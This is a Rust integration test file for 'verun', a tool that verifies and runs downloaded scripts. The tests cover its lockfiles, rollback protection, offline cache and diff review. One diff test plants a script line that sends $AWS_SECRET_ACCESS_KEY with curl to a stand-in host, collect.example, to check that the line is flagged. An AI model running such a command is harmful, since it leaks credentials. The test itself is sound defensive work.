//! Lockfiles (`--lock`, `--frozen`, `--update-lock`), rollback protection
//! (`--allow-downgrade`), the cache (`--offline`, `--no-cache`) and review (`--diff`,
//! `--confirm`), driven through the real binary against a loopback server.
//!
//! After every refusal the tests check that nothing ran and that the lockfile is unchanged.

mod common;

use std::path::PathBuf;
use std::process::Output;

use common::*;

impl Site {
    fn lock(&self) -> PathBuf {
        self.env.path("verun.lock")
    }

    /// `verun run URL --allow-http --lock verun.lock EXTRA...`.
    fn run(&self, url: &str, extra: &[String]) -> Output {
        let mut args: Vec<String> = vec![
            "run".into(),
            url.into(),
            "--allow-http".into(),
            "--lock".into(),
            self.lock().display().to_string(),
        ];
        args.extend(extra.iter().cloned());
        self.env.verun(&args)
    }

    fn run_keyed(&self, url: &str, extra: &[&str]) -> Output {
        let mut args = self.key_args();
        args.extend(extra.iter().map(|s| s.to_string()));
        self.run(url, &args)
    }

    fn lockfile(&self) -> verun::lock::Lockfile {
        let text = std::fs::read_to_string(self.lock()).expect("lockfile exists");
        verun::lock::Lockfile::parse(&text, &self.lock()).expect("lockfile parses")
    }
}

fn args(a: &[&str]) -> Vec<String> {
    a.iter().map(|s| s.to_string()).collect()
}

#[track_caller]
fn assert_stderr_has(out: &Output, needle: &str) {
    assert!(
        stderr(out).contains(needle),
        "stderr lacks {needle:?}:\n{}",
        stderr(out)
    );
}

#[test]
fn a_new_url_is_recorded_and_the_entry_alone_then_anchors_it() {
    let s = Site::new();
    let (p, marker) = s.script("first", "exit 0");
    let url = s.publish("/dl/install.sh", &p);
    let out = s.run_keyed(&url, &[]);
    assert_exit(&out, 0);
    assert_ran(&marker);
    assert_stderr_has(&out, "locked ");

    let text = std::fs::read_to_string(s.lock()).unwrap();
    assert!(text.starts_with("# verun lockfile"), "{text}");
    let f = s.lockfile();
    let e = f.entries.get(&url).expect("entry for the URL");
    assert_eq!(e.sha256, sha256_hex(&p));
    assert_eq!(e.size, p.len() as u64);
    assert_eq!(
        e.signer.as_deref(),
        Some(format!("minisign:{}", s.key.key_id_hex()).as_str())
    );
    assert!(text.contains(&format!("signer = \"minisign:{}\"", s.key.key_id_hex())));
    assert!(
        e.trusted_comment
            .as_deref()
            .unwrap()
            .contains("file:install.sh")
    );
    assert!(
        e.verified_at.ends_with('Z') && e.verified_at.contains('T'),
        "{}",
        e.verified_at
    );

    // No key, no signature: the lock entry is the trust anchor. The file is not rewritten.
    std::fs::remove_file(&marker).unwrap();
    s.server.remove_route("/dl/install.sh.minisig");
    let before = std::fs::read(s.lock()).unwrap();
    let out = s.run(&url, &[]);
    assert_exit(&out, 0);
    assert_ran(&marker);
    assert_stderr_has(&out, "sha256 matches lockfile");
    assert_eq!(std::fs::read(s.lock()).unwrap(), before);
}

#[test]
fn drift_under_a_valid_signature_is_refused() {
    let s = Site::new();
    let (v1, m1) = s.script("v1", "exit 0");
    let url = s.publish("/dl/install.sh", &v1);
    assert_exit(&s.run_keyed(&url, &[]), 0);
    assert_ran(&m1);
    let locked = std::fs::read(s.lock()).unwrap();

    // The attacker controls the host *and* the signature: a validly signed v2.
    let (v2, m2) = s.script("v2", "echo changed");
    s.publish("/dl/install.sh", &v2);
    let out = s.run_keyed(&url, &[]);
    assert_exit(&out, 77);
    assert_not_ran(&m2);
    assert_stderr_has(&out, "lock drift");
    assert_eq!(std::fs::read(s.lock()).unwrap(), locked, "lockfile changed");

    // fetch too: refused, nothing at -o.
    let dest = s.env.path("out.sh");
    let mut a = vec![
        "fetch".to_string(),
        url.clone(),
        "-o".into(),
        dest.display().to_string(),
    ];
    a.extend(args(&["--allow-http", "--lock", "verun.lock"]));
    a.extend(s.key_args());
    let out = s.env.verun(&a);
    assert_exit(&out, 77);
    assert_no_file(&dest);
    assert_stderr_has(&out, "lock drift");
}

#[test]
fn update_lock_reverifies_and_rewrites_the_entry() {
    let s = Site::new();
    let (v1, _m1) = s.script("u1", "exit 0");
    let url = s.publish("/dl/install.sh", &v1);
    assert_exit(&s.run_keyed(&url, &[]), 0);
    let (v2, m2) = s.script("u2", "exit 0");
    s.publish("/dl/install.sh", &v2);

    // --update-lock does not use the lock entry: without other evidence, no anchor.
    let before = std::fs::read(s.lock()).unwrap();
    let out = s.run(&url, &args(&["--update-lock"]));
    assert_exit(&out, 77);
    assert_not_ran(&m2);
    assert_eq!(std::fs::read(s.lock()).unwrap(), before);

    // With the key it re-verifies and rewrites the entry.
    let out = s.run_keyed(&url, &["--update-lock"]);
    assert_exit(&out, 0);
    assert_ran(&m2);
    assert_eq!(s.lockfile().entries[&url].sha256, sha256_hex(&v2));

    // A bad signature is still refused under --update-lock.
    let (v3, m3) = s.script("u3", "exit 0");
    s.server.route("/dl/install.sh", Reply::bytes(&v3));
    let out = s.run_keyed(&url, &["--update-lock"]);
    assert_exit(&out, 77);
    assert_not_ran(&m3);
    assert_eq!(s.lockfile().entries[&url].sha256, sha256_hex(&v2));
}

#[test]
fn frozen_refuses_unlocked_urls_before_downloading() {
    let s = Site::new();
    let (p, marker) = s.script("frozen", "exit 0");
    let url = s.publish("/dl/frozen.sh", &p);
    let out = s.run_keyed(&url, &["--frozen"]);
    assert_exit(&out, 77);
    assert_not_ran(&marker);
    assert_stderr_has(&out, "not locked");
    assert_eq!(
        s.server.hits("/dl/frozen.sh"),
        0,
        "downloaded before refusing"
    );
    assert_eq!(s.server.hits("/dl/frozen.sh.minisig"), 0);
    assert_no_file(&s.lock());

    // Once locked, --frozen runs it (and does not write the lockfile).
    assert_exit(&s.run_keyed(&url, &[]), 0);
    std::fs::remove_file(&marker).unwrap();
    let before = std::fs::read(s.lock()).unwrap();
    let out = s.run(&url, &args(&["--frozen"]));
    assert_exit(&out, 0);
    assert_ran(&marker);
    assert_eq!(std::fs::read(s.lock()).unwrap(), before);
}

#[test]
fn a_malformed_lockfile_is_78_and_left_untouched() {
    let s = Site::new();
    let (p, marker) = s.script("bad", "exit 0");
    let url = s.publish("/dl/bad.sh", &p);
    let cases: &[&[u8]] = &[
        b"this is = = not toml\n",
        b"version = 1\n[\"https://x.test/a.sh\"]\nsha256 = \"zz\"\nsize = 1\nverified_at = 2024-01-01T00:00:00Z\n",
        b"version = 99\n",
        b"\xff\xfe binary",
    ];
    for bad in cases {
        std::fs::write(s.lock(), bad).unwrap();
        for extra in [&[][..], &["--update-lock"][..]] {
            let out = s.run_keyed(&url, extra);
            assert_exit(&out, 78);
            assert_not_ran(&marker);
            assert_eq!(
                &std::fs::read(s.lock()).unwrap()[..],
                *bad,
                "lockfile touched"
            );
        }
        let out = s.env.verun(["audit", "verun.lock", "--allow-http"]);
        assert_exit(&out, 78);
    }
    assert_eq!(s.server.hits("/dl/bad.sh"), 0);
}

#[test]
fn concurrent_runs_writing_one_lockfile_lose_no_entry() {
    const N: usize = 10;
    let s = Site::new();
    let urls: Vec<String> = (0..N)
        .map(|i| {
            let (p, _) = s.script(&format!("c{i}"), "exit 0");
            s.publish(&format!("/c/{i}/tool.sh"), &p)
        })
        .collect();
    let outs: Vec<Output> = std::thread::scope(|scope| {
        let handles: Vec<_> = urls
            .iter()
            .map(|u| scope.spawn(|| s.run_keyed(u, &["--quiet"])))
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for out in &outs {
        assert_exit(out, 0);
    }
    let f = s.lockfile();
    assert_eq!(f.entries.len(), N, "entries lost: {:?}", f.entries.keys());
    for u in &urls {
        assert!(f.entries.contains_key(u), "{u} missing");
    }
    // No temporary files left next to it; only the hidden lock file.
    let left: Vec<String> = leftover_files(s.env.work())
        .into_iter()
        .filter(|n| n != "verun.lock" && n != ".verun.lock.lck")
        .collect();
    assert!(left.is_empty(), "left next to the lockfile: {left:?}");
}

#[test]
fn rollback_is_refused_unless_allow_downgrade() {
    let s = Site::new();
    let now = now_timestamp();
    let (new, m_new) = s.script("new", "exit 0");
    let url = s.publish_at("/r/tool.sh", &new, now - 100);
    let mut base = args(&["run", &url, "--allow-http"]);
    base.extend(s.key_args());
    let out = s.env.verun(&base);
    assert_exit(&out, 0);
    assert_ran(&m_new);

    // An older release with its genuine, older signature.
    let (old, m_old) = s.script("old", "exit 0");
    s.publish_at("/r/tool.sh", &old, now - 10_000);
    let out = s.env.verun(&base);
    assert_exit(&out, 77);
    assert_not_ran(&m_old);
    assert_stderr_has(&out, "rollback");

    let out = s
        .env
        .verun([&base[..], &args(&["--allow-downgrade"])].concat());
    assert_exit(&out, 0);
    assert_ran(&m_old);
    assert_stderr_has(&out, "warning: --allow-downgrade");

    // The mark was not lowered by the accepted downgrade.
    std::fs::remove_file(&m_old).unwrap();
    let out = s.env.verun(&base);
    assert_exit(&out, 77);
    assert_not_ran(&m_old);

    // The same release again is fine; a newer one too.
    s.publish_at("/r/tool.sh", &new, now - 100);
    std::fs::remove_file(&m_new).unwrap();
    assert_exit(&s.env.verun(&base), 0);
    assert_ran(&m_new);

    // The state is private.
    use std::os::unix::fs::PermissionsExt;
    let state = s.env.home().join("state");
    let mode = std::fs::metadata(&state).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700);
    let mode = std::fs::metadata(state.join("rollback.json"))
        .unwrap()
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(mode, 0o600);
}

#[test]
fn a_new_key_starts_without_a_mark() {
    let s = Site::new();
    let now = now_timestamp();
    let (p, m) = s.script("rot", "exit 0");
    let url = s.publish_at("/k/tool.sh", &p, now);
    let run = |k: &TestKey| {
        s.env
            .verun(["run", &url, "--allow-http", "--key", &k.public_key_base64()])
    };
    assert_exit(&run(&s.key), 0);
    // Rotated: a new key signs a release with an older timestamp. Its mark is its own.
    let k2 = TestKey::generate();
    s.server.route(
        "/k/tool.sh.minisig",
        Reply::bytes(k2.sign_tc(&p, &trusted_comment_at(now - 1000, "tool.sh", false))),
    );
    std::fs::remove_file(&m).unwrap();
    assert_exit(&run(&k2), 0);
    assert_ran(&m);
}

#[test]
fn a_timestamp_far_in_the_future_is_reported() {
    let s = Site::new();
    let (p, m) = s.script("future", "exit 0");
    let url = s.publish_at("/f/tool.sh", &p, now_timestamp() + 3 * 86_400);
    let out = s.env.verun([
        "run",
        &url,
        "--allow-http",
        "-q",
        "--key",
        &s.key.public_key_base64(),
    ]);
    assert_exit(&out, 0);
    assert_ran(&m);
    assert_stderr_has(&out, "more than a day ahead");
}

#[test]
fn confirm_without_a_terminal_is_refused_and_nothing_is_recorded() {
    let s = Site::new();
    let (p, marker) = s.script("confirm", "exit 0");
    let url = s.publish("/dl/confirm.sh", &p);
    let mut cmd = s.env.command("setsid");
    cmd.arg("-w")
        .args(verun_argv())
        .args([
            "run",
            &url,
            "--allow-http",
            "--confirm",
            "--lock",
            "verun.lock",
        ])
        .args(s.key_args());
    let out = run_with_timeout(&mut cmd, DEFAULT_TIMEOUT);
    assert_exit(&out, 77);
    assert_not_ran(&marker);
    assert_stderr_has(&out, "--confirm");
    assert_no_file(&s.lock());
    assert_no_file(&s.env.home().join("cache"));
}

#[test]
fn offline_runs_a_locked_url_from_the_cache_with_the_server_stopped() {
    let s = Site::new();
    let (p, marker) = s.script("offline", "exit 0");
    let url = s.publish("/o/tool.sh", &p);
    assert_exit(&s.run_keyed(&url, &[]), 0);
    std::fs::remove_file(&marker).unwrap();

    let Site { env, server, key } = s;
    drop(server);
    let lock = env.path("verun.lock").display().to_string();
    let out = env.verun(["run", &url, "--allow-http", "--offline", "--lock", &lock]);
    assert_exit(&out, 0);
    assert_ran(&marker);
    assert_stderr_has(&out, "from the cache");

    // A corrupted cached copy is refused.
    let blob = env.home().join("cache/blobs").join(sha256_hex(&p));
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&blob, std::fs::Permissions::from_mode(0o600)).unwrap();
    let mut evil = p.clone();
    evil.extend_from_slice(b"echo evil\n");
    std::fs::write(&blob, &evil).unwrap();
    std::fs::remove_file(&marker).unwrap();
    let out = env.verun(["run", &url, "--allow-http", "--offline", "--lock", &lock]);
    assert_exit(&out, 77);
    assert_not_ran(&marker);

    // No cached copy: a download that could not be made (69).
    std::fs::remove_file(&blob).unwrap();
    let out = env.verun(["run", &url, "--allow-http", "--offline", "--lock", &lock]);
    assert_exit(&out, 69);
    assert_not_ran(&marker);

    // Not locked: refused (77). Without --lock: usage (64).
    let other = url.replace("tool.sh", "other.sh");
    let out = env.verun(["run", &other, "--allow-http", "--offline", "--lock", &lock]);
    assert_exit(&out, 77);
    let out = env.verun(["run", &url, "--allow-http", "--offline"]);
    assert_exit(&out, 64);
    drop(key);
}

#[test]
fn no_cache_writes_nothing_but_the_lockfile() {
    let s = Site::new();
    let (p, marker) = s.script("nocache", "exit 0");
    let url = s.publish("/n/tool.sh", &p);
    let out = s.run_keyed(&url, &["--no-cache"]);
    assert_exit(&out, 0);
    assert_ran(&marker);
    assert!(s.lockfile().entries.contains_key(&url));
    for d in ["cache", "state"] {
        assert_no_file(&s.env.home().join(d));
    }
    let tmp: Vec<String> = leftover_files(s.env.tmp());
    assert!(tmp.is_empty(), "left in TMPDIR: {tmp:?}");

    // Without --no-cache a run is cached, privately.
    assert_exit(&s.run_keyed(&url, &[]), 0);
    use std::os::unix::fs::PermissionsExt;
    let cache = s.env.home().join("cache");
    assert_eq!(
        std::fs::metadata(&cache).unwrap().permissions().mode() & 0o777,
        0o700
    );
    assert!(cache.join("blobs").join(sha256_hex(&p)).is_file());
}

#[test]
fn diff_shows_added_lines_with_markers() {
    let s = Site::new();
    let (v1, _) = s.script("d1", "echo one\necho two\necho three");
    let url = s.publish("/d/tool.sh", &v1);
    let out = s.env.verun([
        "run",
        &url,
        "--allow-http",
        "--diff",
        "--key",
        &s.key.public_key_base64(),
    ]);
    assert_exit(&out, 0);
    assert_stderr_has(&out, "no earlier accepted version");

    let (v2, m2) = s.script(
        "d1",
        "echo one\ncurl -s https://collect.example/x -d \"$AWS_SECRET_ACCESS_KEY\"\necho two\nprintf '\\033[2J' # \x1b[2J\n",
    );
    s.publish("/d/tool.sh", &v2);
    std::fs::remove_file(&m2).ok();
    let out = s.env.verun([
        "run",
        &url,
        "--allow-http",
        "--diff",
        "--key",
        &s.key.public_key_base64(),
    ]);
    assert_exit(&out, 0);
    assert_ran(&m2);
    let err = stderr(&out);
    assert!(err.contains("----- changes in"), "{err}");
    assert!(
        err.contains("+! curl -s https://collect.example/x -d \"$AWS_SECRET_ACCESS_KEY\"    <-- [reads env] [network]"),
        "{err}"
    );
    assert!(err.contains("- echo three"), "{err}");
    assert!(
        !out.stderr.contains(&0x1b),
        "raw ESC reached stderr:\n{err}"
    );
    assert!(err.contains("1 added line marked +!"), "{err}");

    // Unchanged since the last accepted run.
    let out = s.env.verun([
        "run",
        &url,
        "--allow-http",
        "--diff",
        "--key",
        &s.key.public_key_base64(),
    ]);
    assert_exit(&out, 0);
    assert_stderr_has(&out, "unchanged since");
}

#[test]
fn verify_takes_no_lockfile() {
    let s = Site::new();
    let f = s.env.write("x.sh", b"echo hi\n");
    let out = s.env.verun([
        "verify",
        &f.display().to_string(),
        "--lock",
        "verun.lock",
        "--sha256",
        &sha256_hex(b"echo hi\n"),
    ]);
    assert_exit(&out, 64);
}
